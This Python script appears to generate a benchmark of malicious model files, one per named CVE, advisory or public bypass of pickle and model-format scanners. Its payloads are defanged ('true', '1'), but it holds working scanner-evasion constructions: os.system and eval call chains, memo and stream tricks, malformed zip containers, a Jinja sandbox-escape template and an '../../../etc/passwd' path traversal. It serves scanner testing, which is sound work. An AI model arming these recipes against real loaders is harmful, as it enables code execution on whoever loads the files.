"""The cases of the scorecard: named CVEs, advisories and public bypasses, each as one small file.

    python3 bench/scorecard/cases.py FOLDER       writes the files

Every file is assembled from opcodes or bytes; nothing is pickled, imported or loaded. What a file would call is harmless:
the shell command is `true`, the expression is `1`. A case is a fixture of this repository where one has the technique.
Names of functions are facts of the advisories that a case refers to.
"""

import json
import pickle
import struct
import sys
import zipfile
import zlib
from io import BytesIO
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "fixtures"
#: The time of every member of an archive, so that two runs write the same bytes.
TIME = (2020, 1, 1, 0, 0, 0)


# Opcodes of a pickle


def text(value):
    data = value.encode("utf8")
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def name(module, attribute):
    return text(module) + text(attribute) + pickle.STACK_GLOBAL


def value(item):
    """A constant: a text, bytes, a small number, None, a list, a tuple or an empty dict."""
    if item is None:
        return pickle.NONE
    if isinstance(item, bool):
        return pickle.NEWTRUE if item else pickle.NEWFALSE
    if isinstance(item, str):
        return text(item)
    if isinstance(item, bytes):
        return pickle.SHORT_BINBYTES + bytes([len(item)]) + item
    if isinstance(item, int):
        return pickle.BININT + struct.pack("<i", item)
    if isinstance(item, tuple):
        return pickle.MARK + b"".join(map(value, item)) + pickle.TUPLE
    if isinstance(item, list):
        return pickle.EMPTY_LIST + pickle.MARK + b"".join(map(value, item)) + pickle.APPENDS
    if item == {}:
        return pickle.EMPTY_DICT
    raise TypeError(item)


def stream(*parts):
    return b"\x80\x04" + b"".join(parts) + pickle.STOP


def called(module, attribute, *arguments):
    """A call, and nothing else: `module.attribute(*arguments)`."""
    return name(module, attribute) + value(tuple(arguments)) + pickle.REDUCE


def call(module, attribute, *arguments):
    return stream(called(module, attribute, *arguments))


#: What runs where the case is about the file around it and not about the name.
PAYLOAD = call("os", "system", "true")


def zipped(*members, method=zipfile.ZIP_STORED):
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for member, data in members:
            info = zipfile.ZipInfo(member, TIME)
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def checkpoint(data):
    """A zip checkpoint of PyTorch around the stream DATA, with one storage of four floats."""
    return zipped(("archive/data.pkl", data), ("archive/byteorder", b"little"), ("archive/data/0", bytes(16)), ("archive/version", b"3\n"))


def tensor(count):
    """A tensor of that storage, as torch.save writes it; the stream says that the storage has COUNT elements."""
    def words(item):
        return pickle.BINUNICODE + struct.pack("<I", len(item)) + item.encode()

    storage = pickle.MARK + words("storage") + b"ctorch\nFloatStorage\n" + words("0") + words("cpu") + value(count) + pickle.TUPLE + pickle.BINPERSID
    hooks = b"ccollections\nOrderedDict\n" + pickle.EMPTY_TUPLE + pickle.REDUCE
    sizes = value(count) + pickle.TUPLE1 + value(1) + pickle.TUPLE1
    return b"ctorch._utils\n_rebuild_tensor_v2\n" + pickle.MARK + storage + value(0) + sizes + pickle.NEWFALSE + hooks + pickle.TUPLE + pickle.REDUCE


def weights(*parts):
    return b"\x80\x02" + b"".join(parts) + pickle.STOP


# Families of cases

GHSA = "https://github.com/{}/security/advisories/"
PICKLESCAN, FICKLING = GHSA.format("mmaitre314/picklescan"), GHSA.format("trailofbits/fickling")
MODELSCAN = "https://github.com/protectai/modelscan/issues/"
NVD = "https://nvd.nist.gov/vuln/detail/"

CASES = []


def case(identity, group, title, references, file, data):
    """DATA is bytes, or a path below fixtures."""
    CASES.append({"id": identity, "group": group, "title": title, "references": references, "file": file, "data": data})


NAMES = "Names that a list did not have"
STREAMS = "Streams that are read in two ways"
FILES = "Containers and file names"
LOADERS = "Loaders"
FORMATS = "Formats without a pickle"
HONEST = "Honest files, for comparison"

#: Advisory, CVE if it has one, module, attribute, arguments.
PICKLESCAN_NAMES = [
    ("GHSA-655q-fx9r-782v", "CVE-2025-1716", "pip", "main", (["--version"],)),
    ("GHSA-f7qq-56ww-84cr", "CVE-2025-10157", "asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "true", True, None, None, None, 0)),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "uuid", "_get_command_stdout", ("true",)),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "_osx_support", "_read_output", ("true",)),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "_aix_support", "_read_cmd_output", ("true",)),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "imaplib", "IMAP4_stream", ("true",)),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "_pyrepl.pager", "pipe_pager", ("", "true")),
    ("GHSA-g38g-8gr9-h9xp", "CVE-2026-56315", "test.support.script_helper", "assert_python_ok", ("-c", "pass")),
    ("GHSA-vvpj-8cmc-gx39", None, "pkgutil", "resolve_name", ("os:system",)),
    ("GHSA-7wx9-6375-f5wh", None, "profile", "run", ("1",)),
    ("GHSA-49gj-c84q-6qm9", None, "cProfile", "run", ("1",)),
    ("GHSA-9w88-8rmg-7g2p", None, "cProfile", "runctx", ("1", None, None)),
    ("GHSA-x696-vm39-cp64", None, "profile", "Profile.run", ({}, "1")),
    ("GHSA-6vqj-c2q5-j97w", None, "profile", "Profile.runctx", ({}, "1", {}, {})),
    ("GHSA-5qwp-399c-mjwf", None, "trace", "Trace.run", ({}, "1")),
    ("GHSA-g344-hcph-8vgg", None, "trace", "Trace.runctx", ({}, "1", {}, {})),
    ("GHSA-fqq6-7vqf-w3fg", None, "doctest", "debug_script", ("1", True)),
    ("GHSA-cj3c-v495-4xqh", None, "code", "InteractiveInterpreter.runcode", ({}, "1")),
    ("GHSA-xp4f-hrf8-rxw7", None, "ensurepip", "_run_pip", (["--version"],)),
    ("GHSA-f54q-57x4-jg88", None, "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("GHSA-p9w7-82w4-7q8m", None, "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""')),
    ("GHSA-3vg9-h568-4w9m", None, "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, "1")),
    ("GHSA-6w4w-5w54-rjvr", None, "idlelib.autocomplete", "AutoComplete.get_entity", ({}, "1")),
    ("GHSA-7cq8-mj8x-j263", None, "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, "1", 0)),
    ("GHSA-8r4j-24qv-fmq9", None, "idlelib.calltip", "Calltip.fetch_tip", ({}, "1")),
    ("GHSA-9xph-j2h6-g47v", None, "idlelib.calltip", "get_entity", ("1",)),
    ("GHSA-m869-42cg-3xwr", None, "idlelib.run", "Executive.runcode", ({}, "1")),
    ("GHSA-j343-8v2j-ff7w", None, "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, "1")),
    ("GHSA-3gf5-cxq9-w223", None, "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, "1")),
    ("GHSA-4r9r-ch6f-vxmx", None, "torch.utils.bottleneck.__main__", "run_cprofile", ("1", {})),
    ("GHSA-4whj-rm5r-c2v8", None, "torch.utils.bottleneck.__main__", "run_autograd_prof", ("1", {})),
    ("GHSA-86cj-95qr-2p4f", None, "torch._dynamo.guards", "GuardBuilder.get", ({}, "1")),
    ("GHSA-f4x7-rfwp-v3xw", None, "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ({}, "1", [])),
    ("GHSA-f745-w6jp-hpxx", None, "torch.utils.collect_env", "run", ("true",)),
    ("GHSA-jhph-76pp-mggw", None, "torch.utils.collect_env", "run_and_read_all", (None, "true")),
    ("GHSA-h3qp-7fh3-f8h4", None, "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    ("GHSA-vr7h-p6mm-wpmh", None, "torch.jit.unsupported_tensor_ops", "execWrapper", ("1", {}, {})),
    ("GHSA-vv6j-3g6g-2pvj", None, "torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    ("GHSA-m273-6v24-x4m4", None, "distutils.file_util", "write_file", ("/dev/null", ["1"])),
    ("GHSA-4675-36f9-wf6r", None, "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr", None, "pty", "spawn", ("true",)),
    ("GHSA-r8g5-cgf2-4m4m", None, "numpy.f2py.crackfortran", "getlincoef", ("1", [])),
    ("GHSA-9726-w42j-3qjr", None, "_io", "FileIO", ("/dev/null",)),
    ("GHSA-m7j5-r2p5-c39r", None, "logging", "FileHandler", ("/dev/null",)),
]
for advisory, cve, module, attribute, arguments in PICKLESCAN_NAMES:
    number = sum(one["id"].split("/")[0] in (cve, advisory) for one in CASES)
    identity = (cve or advisory) + ("/%d" % (number + 1) if (cve or advisory) == "CVE-2026-56315" else "")
    references = [PICKLESCAN + advisory] + ([NVD + cve] if cve else [])
    case(identity, NAMES, "%s.%s" % (module, attribute), references, identity.replace("/", "-") + ".pkl", call(module, attribute, *arguments))

located = called("pydoc", "locate", "os")
case("GHSA-84r2-jw7c-4r5q", NAMES, "operator.methodcaller on pydoc.locate", [PICKLESCAN + "GHSA-84r2-jw7c-4r5q"], "GHSA-84r2-jw7c-4r5q.pkl",
     stream(called("operator", "methodcaller", "system", "true"), located, pickle.TUPLE1, pickle.REDUCE))

case("GHSA-955r-x9j8-7rhh", NAMES, "_operator.methodcaller on builtins.__import__", [PICKLESCAN + "GHSA-955r-x9j8-7rhh"], "GHSA-955r-x9j8-7rhh.pkl",
     stream(called("_operator", "methodcaller", "system", "true"), called("builtins", "__import__", "os"), pickle.TUPLE1, pickle.REDUCE))
case("GHSA-9m3x-qqw2-h32h", NAMES, "cloudpickle.cloudpickle._make_function", [PICKLESCAN + "GHSA-9m3x-qqw2-h32h"], "GHSA-9m3x-qqw2-h32h.pkl", "hostile/reach/cloudpickle.cloudpickle._make_function.pkl")

#: Fickling's advisories about names.
FICKLING_NAMES = [
    ("GHSA-r7v6-mfhq-g3m2", "pty", "spawn", ("true",)),
    ("GHSA-wfq2-52f7-7qvj", "runpy", "run_path", ("/dev/null",)),
    ("GHSA-p523-jq9w-64x9", "cProfile", "run", ("1",)),
    ("GHSA-5hvc-6wx8-mvv4", "pydoc", "locate", ("os.system",)),
    ("GHSA-q5qq-mvfm-j35x", "multiprocessing.util", "spawnv_passfds", (b"/bin/true", [b"true"], ())),
    ("GHSA-5hwf-rc88-82xm", "_aix_support", "_read_cmd_output", ("true",)),
    ("GHSA-5j3x-jp52-966f", "pathlib", "os.system", ("true",)),
    ("GHSA-6ggj-6f2q-f7mx", "_interpreters", "create", ()),
]
for advisory, module, attribute, arguments in FICKLING_NAMES:
    case(advisory, NAMES, "%s.%s" % (module, attribute), [FICKLING + advisory], advisory + ".pkl", call(module, attribute, *arguments))

fetched = pickle.MARK + called("code", "InteractiveInterpreter") + text("runsource") + pickle.TUPLE
case("GHSA-q5qq-mvfm-j35x/code", NAMES, "getattr of code.InteractiveInterpreter", [FICKLING + "GHSA-q5qq-mvfm-j35x"], "GHSA-q5qq-mvfm-j35x-code.pkl",
     stream(name("builtins", "getattr"), fetched, pickle.REDUCE, text("1"), pickle.TUPLE1, pickle.REDUCE))
imported = pickle.MARK + called("builtins", "__import__", "os") + text("system") + pickle.TUPLE
case("GHSA-h4rm-mm56-xf63", NAMES, "builtins.getattr of builtins.__import__", [FICKLING + "GHSA-h4rm-mm56-xf63"], "GHSA-h4rm-mm56-xf63.pkl",
     stream(name("builtins", "getattr"), imported, pickle.REDUCE, text("true"), pickle.TUPLE1, pickle.REDUCE))
case("GHSA-565g-hwwr-4pp3", NAMES, "types.FunctionType of marshal.loads", [FICKLING + "GHSA-565g-hwwr-4pp3"], "GHSA-565g-hwwr-4pp3.pkl",
     stream(name("types", "FunctionType"), pickle.MARK, called("marshal", "loads", b"N"), pickle.EMPTY_DICT, pickle.TUPLE, pickle.REDUCE))

#: Reports to modelscan, which have no advisory.
MODELSCAN_NAMES = [
    ("modelscan#338/1", "338", "mlflow.projects.backend.local", "_run_entry_point", ("true", ".", "", "")),
    ("modelscan#338/2", "338", "pandas.io.parsers.readers", "read_csv", ("/dev/null",)),
    ("modelscan#338/3", "338", "multiprocessing.util", "spawnv_passfds", (b"/bin/true", [b"true"], ())),
    ("modelscan#346", "346", "mailcap", "findmatch", ({}, "text/plain")),
    ("modelscan#331", "331", "importlib", "import_module", ("builtins",)),
]
for identity, number, module, attribute, arguments in MODELSCAN_NAMES:
    case(identity, NAMES, "%s.%s" % (module, attribute), [MODELSCAN + number], identity.replace("/", "-").replace("#", "-") + ".pkl", call(module, attribute, *arguments))
inner = call("os", "system", "true")
case("modelscan#267", NAMES, "pickle.loads of a pickle in the pickle", [MODELSCAN + "267"], "modelscan-267.pkl", call("pickle", "loads", inner))
case("modelscan#338/6", NAMES, "pickle.loads of zlib.decompress", [MODELSCAN + "338"], "modelscan-338-6.pkl",
     stream(name("pickle", "loads"), called("zlib", "decompress", zlib.compress(inner)), pickle.TUPLE1, pickle.REDUCE))
case("modelscan#89", NAMES, "dict.get of numpy.__builtins__", [MODELSCAN + "89"], "modelscan-89.pkl",
     stream(name("builtins", "dict.get"), pickle.MARK, name("numpy", "__builtins__"), text("eval"), pickle.TUPLE, pickle.REDUCE, text("1"), pickle.TUPLE1, pickle.REDUCE))
case("modelscan#330", NAMES, "a state that makes numpy.size call eval", [MODELSCAN + "330"], "modelscan-330.pkl",
     stream(name("numpy", "size"), pickle.MEMOIZE, pickle.NONE, pickle.EMPTY_DICT, text("shape"), name("numpy", "__builtins__"), pickle.SETITEM, pickle.TUPLE2, pickle.BUILD,
            pickle.BINGET + b"\0", text("eval"), pickle.TUPLE2, pickle.REDUCE, text("1"), pickle.TUPLE1, pickle.REDUCE))

# Streams that a scanner and the unpickler read in two ways

case("GHSA-9gvj-pp9x-gcfr", STREAMS, "STACK_GLOBAL takes its names from STRING", [PICKLESCAN + "GHSA-9gvj-pp9x-gcfr"], "GHSA-9gvj-pp9x-gcfr.pkl",
     b"S'os'\nS'system'\n\x93S'true'\n\x85R.")
case("picklescan#14", STREAMS, "memo slots filled by PUT and MEMOIZE in turn", ["https://github.com/mmaitre314/picklescan/issues/14"], "picklescan-14.pkl", "hostile/naming/memoize-overwrites.pkl")
case("picklescan#22", STREAMS, "names stored in the memo and dropped, harmless names behind them", ["https://github.com/mmaitre314/picklescan/issues/22"], "picklescan-22.pkl",
     b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vtrue\ntR.")
case("modelscan#85", STREAMS, "a state stores the names as attributes, and the memo takes them back", [MODELSCAN + "85"], "modelscan-85.pkl",
     b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93Vtrue\n\x85R.")
payload = b"cos\nsystem\nVtrue\n\x85R0"
case("picklescan#52", STREAMS, "the payload runs, then the stream reads an unset memo slot", ["https://github.com/mmaitre314/picklescan/pull/52"], "picklescan-52.pkl",
     b"\x80\x04" + payload + text("os") + b"\x94h\x03h\x00\x93K\x42.")
case("modelscan#338/5b", STREAMS, "the payload runs, then STACK_GLOBAL meets a number", [MODELSCAN + "338"], "modelscan-338-5b.pkl",
     b"\x80\x04" + payload + b"J\x2a\0\0\0\x94" + text("os") + b"\x94h\x00h\x01\x93K\x42.")
case("modelscan#338/5c", STREAMS, "the payload runs, then STACK_GLOBAL meets a bytearray", [MODELSCAN + "338"], "modelscan-338-5c.pkl",
     b"\x80\x05" + payload + text("os") + b"\x96" + struct.pack("<Q", 6) + b"system\x93.")
case("GHSA-mxhj-88fx-4pcv", STREAMS, "a call by OBJ whose result is dropped", [FICKLING + "GHSA-mxhj-88fx-4pcv"], "GHSA-mxhj-88fx-4pcv.pkl",
     stream(pickle.MARK, name("smtplib", "SMTP"), pickle.OBJ, pickle.POP, pickle.NONE))
case("cpython#154848", STREAMS, "an argument crosses the end of its frame", ["https://github.com/python/cpython/issues/154848"], "cpython-154848.pkl", "hostile/readers/01-frame-crossed-unbuffered.pkl")
case("nullifAI", STREAMS, "the payload runs first, then the stream breaks off", ["https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"], "nullifai.pkl",
     b"\x80\x02" + payload + b"}q\x00(X\x05")
case("sour-pickles", STREAMS, "INST in protocol 0", ["https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf"], "sour-pickles.pkl", b"(S'1'\ni__builtin__\neval\n.")
case("second-stream", STREAMS, "a harmless pickle, then the payload in a second one", ["https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"], "second-stream.pkl", stream(pickle.EMPTY_LIST) + PAYLOAD)

# Containers and file names

case("CVE-2025-1889", FILES, "the pickle of a checkpoint has the name of a configuration", [PICKLESCAN + "GHSA-769v-p64c-89pr", NVD + "CVE-2025-1889"], "CVE-2025-1889.pt",
     zipped(("archive/data.pkl", stream(pickle.EMPTY_DICT)), ("archive/config.p", PAYLOAD), ("archive/version", b"3\n")))
case("CVE-2025-1944", FILES, "the local header has another name than the central directory", [PICKLESCAN + "GHSA-7q5r-7gvp-wc82", NVD + "CVE-2025-1944"], "CVE-2025-1944.pt", "hostile/containers/zip-local-name-differs.pt")
case("CVE-2025-1945", FILES, "the local header claims encryption", [PICKLESCAN + "GHSA-w8jq-xcqf-f792", NVD + "CVE-2025-1945"], "CVE-2025-1945.pt", "hostile/containers/zip-encrypted-flag-local.pt")
case("CVE-2025-10155", FILES, "a pickle under the extension of a checkpoint", [PICKLESCAN + "GHSA-jgw4-cr84-mqxg", NVD + "CVE-2025-10155"], "CVE-2025-10155.bin", PAYLOAD)
case("CVE-2025-10156", FILES, "a wrong checksum in a zip", [PICKLESCAN + "GHSA-mjqp-26hc-grxg", NVD + "CVE-2025-10156"], "CVE-2025-10156.pt", "hostile/containers/zip-crc-wrong-both.pt")
case("nullifAI-7z", FILES, "a checkpoint packed as 7z", ["https://github.com/mmaitre314/picklescan/pull/35"], "nullifai-7z.pt", "hostile/containers/payload.7z")
broken = bytearray(zipped(("archive/broken", b"x"), ("archive/data.pkl", PAYLOAD), ("archive/version", b"3\n")))
broken[0:4] = b"XXXX"
case("modelscan#354", FILES, "a broken local header stands before the pickle", [MODELSCAN + "354"], "modelscan-354.pt", bytes(broken))
case("modelscan#345", FILES, "a pickle compressed by gzip", [MODELSCAN + "345"], "modelscan-345.joblib.gz", "hostile/containers/gzip-with-file-name.gz")
case("joblib-zlib", FILES, "a joblib file compressed by zlib", [MODELSCAN + "356"], "joblib-zlib.joblib", "hostile/containers/joblib-payload-zlib.joblib")
case("joblib-arrays", FILES, "the payload of a joblib file lies behind an array", [MODELSCAN + "356"], "joblib-arrays.joblib", "hostile/containers/joblib-payload-after-arrays.joblib")
case("saferpickle#41", FILES, "a pickle compressed by xz", ["https://github.com/google/saferpickle/issues/41"], "saferpickle-41.pkl.xz", "hostile/containers/stream-xz.pkl")
case("no-extension", FILES, "a pickle without an extension", [MODELSCAN + "218"], "no-extension", PAYLOAD)
case("text-extension", FILES, "a pickle that is called notes.txt", [MODELSCAN + "218"], "notes.txt", PAYLOAD)
case("nested-archive", FILES, "a checkpoint in a tar in xz in a zip", ["https://github.com/promptfoo/modelaudit/issues/1044"], "nested-archive.zip", "hostile/nesting/zip-xz-tar-torch.zip")

# Loaders

case("CVE-2025-32434", LOADERS, "torch.load(weights_only=True) before 2.6 reads the tar format without its restrictions", [NVD + "CVE-2025-32434"], "CVE-2025-32434.pt", "hostile/containers/torch-tar-payload-pickle.pt")
case("CVE-2026-24747/1", LOADERS, "SETITEM on something that is no dict, read by weights_only=True before 2.10", [NVD + "CVE-2026-24747"], "CVE-2026-24747-1.pt",
     checkpoint(weights(tensor(4), value(0), value(1), pickle.SETITEM)))
case("CVE-2026-24747/2", LOADERS, "a storage that is smaller than the stream says, read by weights_only=True before 2.10", [NVD + "CVE-2026-24747"], "CVE-2026-24747-2.pt",
     checkpoint(weights(tensor(4096))))
magic = b"\x80\x02" + b"c__builtin__\neval\n" + b"X\x16\0\0\0" + b"0x1950A86A20F9469CFC6C" + b"\x85R."
case("GHSA-97f8-7cmv-76j2", LOADERS, "the magic number of an old checkpoint is computed by eval", [PICKLESCAN + "GHSA-97f8-7cmv-76j2"], "GHSA-97f8-7cmv-76j2.pt",
     magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + b"\x80\x02cos\nsystem\nX\x04\0\0\0true\x85R." + b"\x80\x02].")
case("CVE-2019-6446", LOADERS, "numpy.load of an object array", [NVD + "CVE-2019-6446"], "CVE-2019-6446.npy", "hostile/containers/npy-object-v1.npy")
case("CVE-2020-13092", LOADERS, "joblib.load in scikit-learn", [NVD + "CVE-2020-13092"], "CVE-2020-13092.joblib", "hostile/containers/joblib-payload-first.joblib")
case("CVE-2024-34997", LOADERS, "joblib reads an object array by pickle", [NVD + "CVE-2024-34997"], "CVE-2024-34997.joblib", "hostile/containers/joblib-payload-in-object-array.joblib")

# Formats without a pickle. Sentinel does not analyse them in this version; they are here so that its misses show.

layer = {"class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None, "closure": None}}}}
model = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [{"module": "keras.layers", **layer}]}}
case("CVE-2024-3660", FORMATS, "a Keras archive with a Lambda layer", [NVD + "CVE-2024-3660"], "CVE-2024-3660.keras",
     zipped(("config.json", json.dumps(model).encode()), ("metadata.json", b'{"keras_version": "3.0.0"}'), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(88))))
reached = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}
reach = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": reached, "arguments": {"x": "1"}}}]}}
case("CVE-2025-1550", FORMATS, "a Keras configuration that names any function", [NVD + "CVE-2025-1550"], "CVE-2025-1550.keras",
     zipped(("config.json", json.dumps(reach).encode()), ("metadata.json", b'{"keras_version": "3.8.0"}'), ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(88))))
TEMPLATE = "{% for c in ().__class__.__base__.__subclasses__() %}{% if 'warning' in c.__name__ %}{{ c()._module.__builtins__['len']('') }}{% endif %}{% endfor %}"


def gguf(template):
    key, content = b"tokenizer.chat_template", template.encode()
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key + struct.pack("<I", 8) + struct.pack("<Q", len(content)) + content


case("CVE-2024-34359", FORMATS, "a chat template in a GGUF file that walks to a module", [NVD + "CVE-2024-34359"], "CVE-2024-34359.gguf",
     gguf(TEMPLATE))
case("CVE-2026-5760", FORMATS, "the same template in tokenizer_config.json", [NVD + "CVE-2026-5760"], "tokenizer_config.json", json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": TEMPLATE}).encode())
case("CVE-2026-22807", FORMATS, "an auto_map in config.json that names code of another repository", [NVD + "CVE-2026-22807"], "config.json",
     json.dumps({"architectures": ["Model"], "model_type": "custom", "auto_map": {"AutoModelForCausalLM": "somebody/else--modeling.Model"}}).encode())


def field(number, data):
    """A field of a protobuf message: bytes with their length, or a small number."""
    return bytes([number << 3, data]) if isinstance(data, int) else bytes([number << 3 | 2, len(data)]) + data


outside = field(1, b"location") + field(2, b"../../../etc/passwd")
weight = field(1, 1) + field(2, 1) + field(8, b"w") + field(13, outside) + field(14, 1)
case("CVE-2024-27318", FORMATS, "an ONNX model whose external data lie outside of its folder", [NVD + "CVE-2024-27318"], "CVE-2024-27318.onnx",
     field(1, 8) + field(2, b"pytorch") + field(7, field(2, b"g") + field(5, weight)) + field(8, field(2, 13)))
case("CVE-2025-23304", FORMATS, "a NeMo configuration whose _target_ is a function", [NVD + "CVE-2025-23304"], "CVE-2025-23304.nemo",
     zipped(("model_config.yaml", b"_target_: builtins.eval\n_args_: ['1']\n"), ("model_weights.ckpt", checkpoint(weights(tensor(4))))))


# Honest files, written by the real libraries, so that it shows which scanner flags what it does not know.

HONEST_FILES = [
    ("a checkpoint of PyTorch", "honest/torch/state-dict.pt"),
    ("the same in the older format", "honest/torch/legacy-state-dict.pt"),
    ("a pipeline of scikit-learn", "honest/sklearn/pipeline.pkl"),
    ("a forest of scikit-learn", "honest/sklearn/random-forest.pkl"),
    ("an estimator saved by joblib", "honest/sklearn/knn.joblib"),
    ("arrays by joblib, zlib", "honest/joblib/arrays-zlib.joblib"),
    ("a table of pandas", "honest/pandas/frame-proto4.pkl"),
    ("an array in a pickle", "honest/numpy/pickled-proto5.pkl"),
    ("an object array of numpy", "honest/numpy/object-list.npy"),
    ("a sparse matrix of scipy", "honest/scipy/csr-matrix.pkl"),
    ("dates in a pickle", "honest/stdlib/datetime-proto4.pkl"),
]
for title, path in HONEST_FILES:
    case("honest/" + path.split("/", 1)[1], HONEST, title, [], path.split("/", 1)[1].replace("/", "-"), path)


def write(folder):
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.iterdir():
        old.unlink()
    seen = set()
    for one in CASES:
        if one["id"] in seen or (folder / one["file"]).exists():
            raise SystemExit("twice: %s, %s" % (one["id"], one["file"]))
        seen.add(one["id"])
        data = one["data"]
        (folder / one["file"]).write_bytes((FIXTURES / data).read_bytes() if isinstance(data, str) else data)
    return [{key: one[key] for key in ("id", "group", "title", "references", "file")} for one in CASES]


if __name__ == "__main__":
    if len(sys.argv) != 2:
        raise SystemExit(__doc__)
    print("%d cases" % len(write(Path(sys.argv[1]))))
